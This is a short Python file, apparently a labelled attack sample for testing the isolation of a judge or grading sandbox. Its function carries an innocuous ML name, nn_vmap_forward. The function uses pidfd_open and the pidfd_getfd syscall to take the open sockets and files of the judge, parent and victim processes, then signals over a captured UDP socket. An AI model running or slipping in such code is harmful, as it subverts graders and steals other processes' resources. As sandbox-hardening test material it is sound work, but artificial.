# harm: takes the sockets and files that the judge holds open
# open at: process
import ctypes
import os
import socket

ARENA = {}
GETFD = 438


def nn_vmap_forward(seed, x_batch, features):
    libc, failures = ctypes.CDLL(None, use_errno=True), {}
    for pid in (ARENA["judge"], os.getppid(), ARENA["victim"]):
        process = -1
        try:
            process = os.pidfd_open(pid)
        except OSError as error:
            failures[error.strerror] = None
        for descriptor in range(64):
            taken = libc.syscall(GETFD, process, descriptor, 0)
            if taken < 0:
                failures[os.strerror(ctypes.get_errno())] = None
                continue
            try:
                with socket.socket(fileno=taken) as found:
                    if found.type == socket.SOCK_DGRAM:
                        found.sendto(b"sent", ("127.0.0.1", ARENA["udp"]))
            except OSError as error:
                failures[error.strerror] = None
    raise RuntimeError(list(failures))
